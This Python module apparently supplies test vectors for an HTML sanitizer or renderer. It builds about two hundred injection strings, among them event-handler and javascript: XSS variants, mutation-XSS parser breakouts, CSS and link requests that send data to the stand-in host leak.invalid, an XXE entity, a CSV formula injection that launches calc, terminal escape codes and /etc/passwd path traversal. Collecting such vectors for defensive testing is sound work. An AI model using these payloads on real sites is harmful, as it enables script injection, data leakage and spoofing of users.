# ruff: noqa: E501 – a vector is what it is
"""Two hundred ways in which text tries to be more than text. `PAYLOAD` is what they would do."""

from __future__ import annotations

# Shows itself in every way that a test can see: a dialog, a request, a change of the window around.
PAYLOAD = "alert(1),top.pwned=1,fetch('http://leak.invalid/x')"
LEAK = "http://leak.invalid/x"

_HANDLERS = (
    "onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerdown onanimationstart onanimationend "
    "ontransitionend ontoggle onbeforetoggle onscroll onscrollend onresize oninput onchange onsubmit onkeydown onpaste oncut "
    "ondrag ondrop onwheel oncontextmenu onplay oncanplay onended onvolumechange onpageshow onhashchange onmessage "
    "onbeforeunload onunload onselect oninvalid onreset oncopy onauxclick oncontentvisibilityautostatechange"
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "video src=x",
    "details open",
    "iframe src=about:blank",
    "marquee",
)
_SCHEMES = (
    "javascript:{p}",
    "JaVaScRiPt:{p}",
    " javascript:{p}",
    "\tjava\nscript:{p}",
    "java&#115;cript:{p}",
    "&#x6A;avascript:{p}",
    "javascript&colon;{p}",
    "javascript://%0a{p}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{p}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{p}'/>",
    "blob:http://leak.invalid/x",
    "view-source:javascript:{p}",
    "feed:javascript:{p}",
    "\x01javascript:{p}",
)
_PLACES = (
    '<a href="{u}">a</a>',
    '<iframe src="{u}"></iframe>',
    '<form action="{u}"><button>b</button></form>',
    '<button formaction="{u}">b</button>',
    '<object data="{u}"></object>',
    '<embed src="{u}">',
)
_WHOLE = (
    "<script>{p}</script>", "<ScRiPt>{p}</sCrIpT>", "<script src=http://leak.invalid/x.js></script>",
    "<script type=module>{p}</script>", "<script>{p}//", "<svg><script>{p}</script></svg>", "<svg><script href=data:,{p} />",
    "<math><mtext></mtext><script>{p}</script></math>", "</script><script>{p}</script>", "</style><script>{p}</script>",
    "</textarea><script>{p}</script>", "</title><script>{p}</script>", "</noscript><script>{p}</script>", "--><script>{p}</script>",
    "]]><script>{p}</script>", "'-{p}-'", "\"-{p}-\"", "`${{{p}}}`", "${{{p}}}", "{{{{constructor.constructor('{p}')()}}}}",
    "\\u003cscript\\u003e{p}\\u003c/script\\u003e", "%3Cscript%3E{p}%3C/script%3E", "&lt;script&gt;{p}&lt;/script&gt;",
    "<noscript><p title=\"</noscript><img src=x onerror={p}>\">", "<template><img src=x onerror={p}></template>",
    "<xmp><p title=\"</xmp><img src=x onerror={p}>\">", "<style><img src=\"</style><img src=x onerror={p}>\">",
    "<math><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={p}&gt;\">", "<svg><style><a id=\"</style><img src=x onerror={p}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={p}>", "<img src=x onerror={p}", "<img/src=x/onerror={p}>",
    "<img src=`x` onerror={p}>", "<img \x00src=x onerror={p}>", "<<script>{p}//<</script>", "<svg/onload={p}>", "<svg onload={p}//",
    "<svg><animate onbegin={p} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:{p}></svg>",
    "<svg><a><animate attributeName=href values=javascript:{p} /><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{p}'/>#x\"></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>{p}</script>\"></iframe></foreignObject></svg>",
    "<iframe srcdoc=\"<script>parent.{p}</script>\"></iframe>", "<iframe srcdoc=\"&lt;script&gt;{p}&lt;/script&gt;\"></iframe>",
    "<meta http-equiv=refresh content=\"0;url=http://leak.invalid/x\">", "<meta http-equiv=refresh content=\"0;javascript:{p}\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<meta http-equiv=set-cookie content=\"a=1\">",
    "<base href=http://leak.invalid/>", "<link rel=stylesheet href=http://leak.invalid/x.css>", "<link rel=preload as=image href=http://leak.invalid/x>",
    "<link rel=prefetch href=http://leak.invalid/x>", "<link rel=dns-prefetch href=//leak.invalid>", "<link rel=preconnect href=http://leak.invalid>",
    "<link rel=modulepreload href=http://leak.invalid/x.js>", "<link rel=icon href=http://leak.invalid/x>", "<link rel=import href=http://leak.invalid/x>",
    "<link rel=manifest href=http://leak.invalid/x>", "<style>@import url(http://leak.invalid/x);</style>", "<style>*{{background:url(http://leak.invalid/x)}}</style>",
    "<style>@font-face{{font-family:f;src:url(http://leak.invalid/x)}} *{{font-family:f}}</style>", "<style>input[value^=a]{{background:url(http://leak.invalid/a)}}</style>",
    "<style>*{{cursor:url(http://leak.invalid/x),auto;list-style:url(http://leak.invalid/x);content:url(http://leak.invalid/x)}}</style>",
    "<style>*{{background:image-set('http://leak.invalid/x' 1x)}}</style>", "<style>*{{-webkit-mask:url(http://leak.invalid/x#m)}}</style>",
    "<p style=\"background:url(http://leak.invalid/x)\">", "<p style=\"width:expression({p})\">", "<p style=\"behavior:url(x.htc)\">",
    "<p style=\"position:fixed;inset:0;z-index:99999;background:red\">over all</p>", "<img src=http://leak.invalid/x>", "<img srcset=\"http://leak.invalid/x 1x\">",
    "<picture><source srcset=http://leak.invalid/x><img></picture>", "<video src=http://leak.invalid/x autoplay></video>", "<video poster=http://leak.invalid/x>",
    "<audio src=http://leak.invalid/x autoplay controls></audio>", "<track src=http://leak.invalid/x>", "<input type=image src=http://leak.invalid/x>",
    "<table background=http://leak.invalid/x>", "<body background=http://leak.invalid/x>", "<frameset><frame src=javascript:{p}></frameset>",
    "<object data=http://leak.invalid/x type=text/html></object>", "<object classid=clsid:1 codebase=http://leak.invalid/x></object>",
    "<applet code=x codebase=http://leak.invalid/></applet>", "<embed src=http://leak.invalid/x.swf allowscriptaccess=always>",
    "<a ping=http://leak.invalid/x href=#>ping</a>", "<a href=http://leak.invalid/x target=_top>top</a>", "<a href=http://leak.invalid/x target=_blank rel=opener>new</a>",
    "<a href=http://leak.invalid/x download>get</a>", "<form action=http://leak.invalid/x target=_top><input name=a><input type=submit></form>",
    "<portal src=http://leak.invalid/x></portal>", "<fencedframe></fencedframe>", "<isindex action=javascript:{p}>", "<dialog open onclose={p}>d</dialog>",
    "<div popover id=pop onbeforetoggle={p}>pop</div>", "<button popovertarget=pop>b</button>", "<keygen autofocus onfocus={p}>", "<select autofocus onfocus={p}></select>",
    "<textarea autofocus onfocus={p}></textarea>", "<x contenteditable onfocus={p} tabindex=1 autofocus>", "<p id=harness name=harness>clobber</p>",
    "<form id=document><input name=body><input name=defaultView></form>", "<img name=getElementById>", "<a id=ready href=javascript:{p}><a id=ready name=pages>",
    "<?xml-stylesheet href=\"javascript:{p}\"?>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"http://leak.invalid/x\">]>&e;", "<!--[if IE]><script>{p}</script><![endif]-->",
    "<img src=\"x:`\" onerror=\"{p}\"`>", "\u202e<img src=x onerror={p}>\u202c", "\u2066</bdi><b>\u2069", "pay\u0440al.example/\u202egpj.exe", "a\u200b\ufefflert(1)",
    "=cmd|' /C calc'!A0", "\x1b]0;pwned\x07\x1b[2J", "__proto__", "constructor", "{{\"$\":\"element\",\"text\":\"<img src=x onerror={p}>\"}}", "../../../../etc/passwd",
    "[x](javascript:{p})", "![x](http://leak.invalid/x)", "<img src=x onerror=\"parent.{p}\">", "<img src=x onerror=\"window.opener&&{p}\">",
)  # fmt: skip


def vectors() -> list[str]:
    """Return all of them, each once."""
    texts = [text.format(p=PAYLOAD) for text in _WHOLE]
    handlers = _HANDLERS.split()
    texts += [f'<{_TAGS[n % len(_TAGS)]} {name}="{PAYLOAD}" tabindex=0>' for n, name in enumerate(handlers)]
    texts += [_PLACES[n % len(_PLACES)].format(u=url.format(p=PAYLOAD)) for n, url in enumerate(_SCHEMES)]
    texts += [place.format(u=f"javascript:{PAYLOAD}") for place in _PLACES]
    texts += [f"<{tag} onfocus={PAYLOAD} onerror={PAYLOAD} onload={PAYLOAD}>" for tag in _TAGS]
    texts += [
        f"<{tag}><script>{PAYLOAD}</script></{tag}>"
        for tag in ("table", "select", "frameset", "plaintext", "listing", "ruby")
    ]
    texts += [f"x\n{sep}<img src=x onerror={PAYLOAD}>" for sep in ("\u2028", "\u2029", "\r\n\r\n", "\x00")]
    return list(dict.fromkeys(texts))
